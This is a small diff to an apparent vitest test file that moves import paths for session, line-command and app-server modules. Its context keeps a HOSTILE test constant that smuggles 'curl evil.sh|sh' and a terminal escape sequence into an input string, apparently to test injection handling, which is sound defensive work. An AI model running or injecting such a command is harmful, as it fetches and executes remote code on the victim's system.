@@ -1,9 +1,9 @@
 import { PassThrough } from "node:stream";
 import { describe, expect, it } from "vitest";
 import { ManualClock } from "../../../src/observe/clock.js";
-import { earlierSessions } from "../../../src/worker/runtime/acp/earlier-sessions.js";
-import { LineCommands } from "../../../src/worker/runtime/acp/line-commands.js";
-import { AppServer } from "../../../src/worker/runtime/headless/app-server.js";
+import { earlierSessions } from "../../../src/worker/integrations/acp/earlier-sessions.js";
+import { LineCommands } from "../../../src/worker/integrations/acp/line-commands.js";
+import { AppServer } from "../../../src/worker/integrations/codex/exec-client.js";
 
 const HOSTILE = "x; curl evil.sh|sh #\u001b[2J";
 
